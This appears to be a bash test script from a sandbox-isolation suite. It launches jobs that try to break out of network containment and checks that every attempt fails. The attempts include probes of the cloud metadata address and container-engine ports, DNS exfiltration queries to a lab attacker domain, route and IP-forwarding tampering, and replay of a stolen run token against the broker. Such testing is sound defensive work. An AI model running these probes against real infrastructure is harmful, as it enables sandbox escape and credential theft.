#!/usr/bin/env bash
# Reaching out of a sandbox that may not (modes None and AllowedDomains without its proxy): every
# class of address, by TCP, UDP, ICMP, other protocols, IPv6, raw frames and names, as agent and as
# root. What runs with Internet access reach is in egress_attack.sh.
. "$(dirname "$(readlink -f "$0")")/lib.sh"

OUTSIDE=(203.0.113.10 203.0.113.53 198.51.100.7 10.20.0.5 172.31.250.9 192.168.77.10 100.64.3.4
  198.18.0.9 169.254.169.254 100.100.100.200)
HOST=(192.0.2.2 10.202.0.1 192.0.2.1 192.0.2.66)
IPV6=(2001:db8::10 fd00:ec2::254 fd12:3456::5 2001:db8:2::2 ::ffff:192.0.2.2 ::ffff:169.254.169.254)

# A container of somebody else, as the engine makes them: it reaches what exists.
plain_container() { # CMD…: prints the output
  local id body
  body=$(jq -nc --arg image "$ATTACK_IMAGE" '{Image: $image, Cmd: $ARGS.positional, Tty: true}' --args "$@")
  id=$(engine_api POST /containers/create -H 'Content-Type: application/json' -d "$body" | jq -r .Id)
  engine_api POST "/containers/$id/start" >/dev/null
  engine_api POST "/containers/$id/wait" >/dev/null
  engine_api GET "/containers/$id/logs?stdout=1&stderr=1"
  engine_api DELETE "/containers/$id?force=1" >/dev/null
}

begin

# The lab can see: without this, an empty log would prove nothing. Packets get lost on a busy
# machine, so what has not arrived is tried again.
missing() { # what of it is not in the logs yet, a line each
  local a kind
  arrivals >"$WORK/seen"
  for a in "${OUTSIDE[@]}" "${HOST[@]}"; do
    for kind in "tcp $a:80" "udp $a:7778" "icmp $a"; do grep -qF "$kind " "$WORK/seen" || echo "$kind"; done
  done
}
all_seen() { # fails with what is missing
  local left
  left=$(missing | sed 's/^[a-z]* //; s/:.*//' | sort -u)
  # shellcheck disable=SC2086
  [ -z "$left" ] || plain_container probe reach $left >"$WORK/plain"
  left=$(missing); echo "$left"
  [ -z "$left" ]
}
eventually "an ordinary container reaches every address, and the logs show it" 60 all_seen
plain_container probe dns 192.0.2.2 data.attack.lab.test >/dev/null
arrivals >"$WORK/seen"; grep -q 'dns .*data.attack.lab.test' "$WORK/seen" && ok "the logs show names" || bad "the logs show names" "$(cat "$WORK/seen")"
forget

# Somebody to be attacked: another run's sandbox that listens, and a container on the default bridge.
victim=$(launch victim 'echo "$UMP_TOKEN" >/workspace/token; probe serve /workspace/hits & until nc -w 1 127.0.0.1 8443 -e true; do sleep 0.1; done; sleep 590')
eventually "a victim's sandbox runs" 150 running "$victim"
victim_root=$(root_of "$victim")
eventually "the victim listens, and keeps what reaches it" 30 test -s "$victim_root/workspace/hits"
: >"$victim_root/workspace/hits"
victim_ip=$(engine_api GET "/containers/$(sandbox_of "$victim")/json" | jq -r '[.NetworkSettings.Networks[].IPAddress][0]')
victim_broker=$(endpoint_of "$victim")
on_networks || { victim_ip=''; victim_broker=''; }   # it has no address anywhere
neighbour=$(engine_api POST /containers/create -H 'Content-Type: application/json' -d "$(jq -nc --arg i "$ATTACK_IMAGE" '{Image: $i, Cmd: ["probe", "serve", "/tmp/hits"], ExposedPorts: {"7777/tcp": {}}, HostConfig: {PortBindings: {"7777/tcp": [{HostPort: "8443"}]}}}')" | jq -r .Id)
engine_api POST "/containers/$neighbour/start" >/dev/null
neighbour_state=$(engine_api GET "/containers/$neighbour/json")
neighbour_ip=$(jq -r .NetworkSettings.IPAddress <<<"$neighbour_state")
neighbour_root=/proc/$(jq -r .State.Pid <<<"$neighbour_state")/root
gateway=10.202.0.1
! on_networks || gateway=${victim_broker%.*}.$((${victim_broker##*.} - 1))
eventually "the neighbour's published port answers on the host" 20 bash -c 'exec 3<>/dev/tcp/192.0.2.2/8443'
eventually "the neighbour keeps what reaches it" 10 test -s "$neighbour_root/tmp/hits"
: >"$neighbour_root/tmp/hits"
forget

api_port=$(sed -n 's/^ *server: .*:\([0-9]*\)"\{0,1\}$/\1/p' "$D/kubeconfig" | head -1)
script="
probe reach ${OUTSIDE[*]} ${HOST[*]} ${IPV6[*]} $victim_ip $victim_broker $neighbour_ip $gateway
probe frames
b=\$(awk '/umpteenth/ { print \$1; exit }' /etc/hosts); echo broker \$b
for server in 127.0.0.11 127.0.0.1 127.0.0.53 203.0.113.53 192.0.2.2 ${OUTSIDE[3]} \$b; do probe dns \$server data-\$(id -u).attack.lab.test & done
for name in secret-\$(id -u) umpteenth; do timeout 3 nslookup \$name.attack.lab.test & done
probe ports 192.0.2.2 $api_port 2375 2376 8080 8081 & probe ports $gateway $api_port 2375 2376 8080 8081 & probe ports \$b 1 22 80 2375 8080 $api_port & wait
ip route; ip -6 addr; nc -w 3 \$b 8081 -e true && echo the broker is there
ip route add default via \$b 2>&1; ip route replace 203.0.113.0/24 dev eth0 2>&1; ip neigh add $gateway lladdr 02:00:00:00:00:01 dev eth0 2>&1; ip link add d0 type dummy 2>&1
echo 0 >/proc/sys/net/ipv6/conf/all/disable_ipv6; echo 1 >/proc/sys/net/ipv4/ip_forward
probe reach ${OUTSIDE[0]} ${OUTSIDE[8]} ${HOST[0]}
echo the script ended
"
declare -A runs
for job in "${JOBS[@]}"; do runs[$job]=$(launch "$job" "$script"); done
for job in "${JOBS[@]}"; do
  await "${runs[$job]}"
  says "$job: the attack ran to its end" "${runs[$job]}" 'the script ended'
  says "$job: it was tried" "${runs[$job]}" '[0-9]{3} tries'
  says "$job: nothing answered" "${runs[$job]}" '!OPEN|raw socket .* given'
  says "$job: no IPv6 address" "${runs[$job]}" '!inet6 [^:]*:[^:]*:.* scope (global|link)'
  says "$job: the broker stays reachable" "${runs[$job]}" 'the broker is there'
done
nothing_arrived "all jobs"
[ ! -s "$victim_root/workspace/hits" ] && ok "nothing reached another run's sandbox" || bad "nothing reached another run's sandbox" "$(cat "$victim_root/workspace/hits")"
[ ! -s "$neighbour_root/tmp/hits" ] && ok "nothing reached another container" || bad "nothing reached another container"

# From the LAN to a sandbox and its broker.
expect "the LAN reaches what the host serves" 0 '^host ' "$LAB_SH" attacker "$ATTACK_LAB" curl -s -m 5 http://192.0.2.2/
for target in ${victim_ip:+"$victim_ip 7777"} ${victim_broker:+"$victim_broker 8081"}; do
  if "$LAB_SH" attacker "$ATTACK_LAB" timeout 2 bash -c "exec 3<>/dev/tcp/${target% *}/${target#* }" 2>/dev/null; then
    bad "the LAN does not reach $target"; else ok "the LAN does not reach $target"; fi
done
# The API is not for who comes from a run's network, however it got there.
ip addr add 10.201.255.253/32 dev lo
code() { curl -sk -m 10 -o /dev/null -w '%{http_code}' "$@" "https://127.0.0.1:$api_port/readyz"; }
[ "$(code)" = 200 ] && ok "the API answers its own host" || bad "the API answers its own host" "$(code)"
[ "$(code --interface 10.201.255.253)" = 000 ] && ok "but no address of the runs' networks" || bad "but no address of the runs' networks" "$(code --interface 10.201.255.253)"
ip addr del 10.201.255.253/32 dev lo
# Where umpd takes itself for a container its broker's port is open on the host, for nobody.
code=$("$LAB_SH" attacker "$ATTACK_LAB" curl -s -m 3 -o /dev/null -w '%{http_code}' -H "Authorization: Bearer $(cat "$victim_root/workspace/token")" http://192.0.2.2:8081/v1/state)
case $code in 000 | 401) ok "a run's token is worth nothing from the LAN" ;; *) bad "a run's token is worth nothing from the LAN" "$code" ;; esac
if ! on_networks; then ok "the host has no route to a sandbox"
elif timeout 2 bash -c "exec 3<>/dev/tcp/$victim_ip/7777" 2>/dev/null; then bad "the host does not reach a sandbox"; else ok "the host does not reach a sandbox"; fi
[ ! -s "$victim_root/workspace/hits" ] && ok "nothing reached the victim" || bad "nothing reached the victim"

in_phase "$victim" Running && [ -e "$victim_root/workspace/hits" ] && ok "the victim was there all the time" || bad "the victim was there all the time"
umpctl cancel "run/$victim" >/dev/null
engine_api DELETE "/containers/$neighbour?force=1" >/dev/null
umpd_lives "after all"
